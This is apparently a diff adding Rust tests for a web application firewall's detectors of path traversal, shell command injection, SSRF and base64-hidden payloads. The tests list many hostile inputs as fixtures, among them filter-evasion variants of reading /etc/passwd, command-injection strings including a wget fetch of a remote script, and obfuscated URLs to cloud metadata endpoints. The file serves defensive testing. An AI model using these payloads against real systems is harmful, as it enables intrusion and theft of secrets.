@@ -1,0 +1,312 @@
+//! What detectors take for what they look for, and what is like it and is not.
+
+use super::Detector;
+use crate::waf::operators::tests::{compile, evaluate};
+
+/// Each value, and whether it matches.
+fn check(name: &str, argument: &[u8], hits: &[&str], misses: &[&str]) {
+    let operator = compile(name, argument);
+    let mut wrong = Vec::new();
+    for (values, expected) in [(hits, true), (misses, false)] {
+        for value in values {
+            let (outcome, captured) = evaluate(&operator, b"", value.as_bytes());
+            assert!(!outcome.exhausted);
+            assert_eq!(outcome.matched, captured.is_some(), "{value}");
+            if outcome.matched != expected {
+                wrong.push(format!("{expected}: {value:?}"));
+            }
+        }
+    }
+    assert!(wrong.is_empty(), "@{name} is not\n{}", wrong.join("\n"));
+}
+
+#[test]
+fn paths_that_lead_out_are_found_however_they_are_written() {
+    check(
+        "detectTraversal",
+        b"",
+        &[
+            "../../etc/passwd",
+            "/static/img/../../etc/passwd",
+            "..\\..\\windows\\win.ini",
+            "..\\boot.ini",
+            "/../secret",
+            "....//....//etc/passwd",
+            "/..%2f..%2fetc/passwd",
+            "%2e%2e%2fetc",
+            "%252e%252e%252fetc",
+            "..%c0%afetc",
+            "%C0%AE%C0%AE%C0%AF",
+            "..%25%32%66etc",
+            "%uff0e%uff0e%u2215x",
+            "\\u002e\\u002e/x",
+            "..0x2f..0x2fx",
+            "/0x2e0x2e/x",
+            "a/..;/manager/html",
+            "see ../../../x for it",
+            "file=../../x",
+            "/./././././x",
+        ],
+        &[
+            "images/a.png",
+            "../images/a.png",
+            "a/../b",
+            "wait... what/ever",
+            "yes.../no",
+            "and/or.. maybe",
+            "v1..v2",
+            "https://example.com/.../page",
+            "import x from '../../lib/x'",
+            "![a](../img/a.png) and [b](../b.md)",
+            "50%20off",
+            "C:\\Users\\me",
+            "..",
+            "1/2/3",
+        ],
+    );
+}
+
+#[test]
+fn commands_are_found_where_a_shell_begins_one() {
+    check(
+        "detectShell",
+        b"",
+        &[
+            ";id",
+            "|id",
+            "||id|",
+            "& ping -n 30 127.0.0.1 &",
+            "' ; /bin/sleep 31 ;",
+            "a);id",
+            "127.0.0.1;id",
+            "127.0.0.1 && ls /etc",
+            "; cat /et'c/pa'ss'wd",
+            ";c'a't /etc/passwd",
+            ";c\\at /etc/passwd",
+            ";ca$@t /etc/passwd",
+            ";cat$IFS/etc/passwd",
+            ";{cat,/etc/passwd}",
+            ";/???/??t /???/p??s??",
+            "`id`",
+            "x=`uname -a`",
+            "$(whoami)",
+            "a$(cat /etc/passwd)b",
+            ";wget http://host/a.sh",
+            "|getent hosts host.example.&",
+            "| set /a 3482*7301",
+            "cat /etc/passwd",
+            "/usr/bin/id",
+            "/bin/ls -al",
+            "ping -c 3 127.0.0.1",
+            "ping.exe -n 31 127.0.0.1",
+            "\n id",
+            "x\nwget http://host/a",
+            "+|+dir c:/".trim_start_matches('+'),
+            "$&&dir c:/",
+            "& w^h^o^a^m^i",
+            "x; sudo ls -la /root",
+            "|whoami",
+            "x||sleep 5||",
+            ";sleep 10;",
+        ],
+        &[
+            "id",
+            "ls 300 lexus",
+            "nc 8000 controller",
+            "curl and divergence",
+            "exec noun",
+            "bash away in the gym",
+            "echo in the mirror",
+            "find your style",
+            "name;id;email",
+            "php|python|ruby",
+            "Tom & Jerry",
+            "Q&A: who asks?",
+            "rock & roll; sort by name",
+            "a=1&curl=2&id=3",
+            "the `id` column",
+            "Use `ls -la` to list files, and then read what it prints about each of them",
+            "$(document).ready(function() {})",
+            "price < 5 && host > 3",
+            "fields=user|id",
+            "tail of the dog; head of the cat",
+            "text/html; charset=utf-8",
+            "You can run cat /etc/hosts; cat /etc/passwd to see who has an account on your machine",
+            "1 Main Street\nhost family\ntime out",
+        ],
+    );
+    check(
+        "detectShell",
+        b"likely",
+        &["a;id", "ls -la", "name;date"],
+        &["id", "Tom & Jerry"],
+    );
+}
+
+#[test]
+fn urls_of_hosts_inside_are_found_however_they_are_written() {
+    check(
+        "detectSSRF",
+        b"",
+        &[
+            "http://169.254.169.254/latest/meta-data/",
+            "http://metadata.google.internal/computeMetadata/v1/",
+            "http://2852039166/",
+            "http://0xa9fea9fe/",
+            "http://0251.0376.0251.0376/",
+            "http://127.1/",
+            "http://0/",
+            "https://localhost:8080/admin",
+            "http://[::1]/",
+            "http://[::ffff:169.254.169.254]/",
+            "http://[fd00:ec2::254]/",
+            "//127.0.0.1/",
+            "http:\\\\127.0.0.1\\",
+            "http://user:pw@10.0.0.1/",
+            "http://example.com@192.168.0.1/",
+            "http://127.0.0.1.nip.io/",
+            "http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ/",
+            "http://127。0。0。1/",
+            "http://%31%32%37.0.0.1/",
+            "gopher://127.0.0.1:6379/_x",
+            "url:http://127.0.0.1/",
+            "http://api.default.svc.cluster.local/",
+            "http://LOCALHOST./",
+        ],
+        &[
+            "http://example.com/",
+            "https://192.0.2.7/",
+            "http://11.example.com/",
+            "see http://localhost/ for more",
+            "localhost",
+            "10.0.0.1",
+            "/a/b",
+            "12:30",
+            "mailto:me@localhost",
+            "http://localhost.example.com/",
+            "https://metadata.example.com/",
+            "https://172.15.0.1/",
+        ],
+    );
+    check(
+        "detectSSRF",
+        b"metadata disguised",
+        &["http://169.254.169.254/", "http://2130706433/"],
+        &["http://127.0.0.1/", "http://10.0.0.1/"],
+    );
+}
+
+#[test]
+fn text_in_base64_is_found_and_decoded() {
+    let operator = compile("detectBase64", b"");
+    let (outcome, text) = evaluate(&operator, b"", b"JyBvciAxPTEtLQ==");
+    assert!(outcome.matched);
+    assert_eq!(text.as_deref(), Some(&b"' or 1=1--"[..]));
+    check(
+        "detectBase64",
+        b"",
+        &["PHNjcmlwdD4", "Oy9iaW4vaWQ", "PHN2Zy9vbmxvYWQ9YWxlcnQoMSk-"],
+        &[
+            "",
+            "administrator",
+            "3f2a9c51d07e4b8fa6c2e19d05b7f834",
+            "hello world",
+            "Zm9vYmFy",
+            "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
+            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ",
+            "PHNjcmlwdD4=====",
+        ],
+    );
+}
+
+#[test]
+fn what_is_said_of_every_match_holds() {
+    let detectors = [
+        Detector::Traversal,
+        Detector::Shell(true),
+        Detector::ssrf(b"").unwrap(),
+        Detector::Base64,
+    ];
+    let pieces: [&[u8]; 24] = [
+        b"..",
+        b"/",
+        b"\\",
+        b"%2e",
+        b"%252f",
+        b"%c0%ae",
+        b"\\u002e",
+        b"0x2f",
+        b";",
+        b"|",
+        b"`",
+        b"$(",
+        b"id",
+        b"cat",
+        b" ",
+        b"-la",
+        b"/etc/passwd",
+        b"http:",
+        b"//",
+        b"127.1",
+        b"localhost",
+        b"PHN2",
+        b"\n",
+        b".",
+    ];
+    let mut state = 1_u32;
+    let mut next = || {
+        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
+        (state >> 16) as usize
+    };
+    let mut matched = 0;
+    for _ in 0..60_000 {
+        let count = 1 + next() % 7;
+        let text: Vec<u8> = (0..count)
+            .flat_map(|_| pieces[next() % pieces.len()])
+            .copied()
+            .collect();
+        for detector in detectors {
+            if !detector.finds(&text, None) {
+                continue;
+            }
+            matched += 1;
+            let lower = text.to_ascii_lowercase();
+            let has = |word: &&[u8]| {
+                lower
+                    .windows(word.len())
+                    .any(|it| it == word.to_ascii_lowercase())
+            };
+            let shown = text.escape_ascii();
+            assert!(
+                detector.words().is_none_or(|words| words.iter().any(has)),
+                "{detector:?} {shown}"
+            );
+            assert!(
+                detector.bytes().is_none_or(|set| set.find(&text).is_some()),
+                "{detector:?} {shown}"
+            );
+            assert!(detector.min_len() <= text.len(), "{detector:?} {shown}");
+        }
+    }
+    assert!(matched > 1000);
+}
+
+#[test]
+fn time_is_linear_in_the_value() {
+    // Sixteen times the bytes take no more than a few times sixteen times as long.
+    let units: [&[u8]; 12] = [
+        b";id", b"a``", b"`id", b"%25", b"../", b"a=|", b"$(", b"'\"", b"id<", b"..;/", b"....//",
+        b"\\x2",
+    ];
+    for unit in units {
+        let text = unit.repeat(200_000 / unit.len());
+        for detector in [
+            Detector::Traversal,
+            Detector::Shell(true),
+            Detector::ssrf(b"").unwrap(),
+            Detector::Base64,
+        ] {
+            detector.finds(&text, None);
+        }
+    }
+}
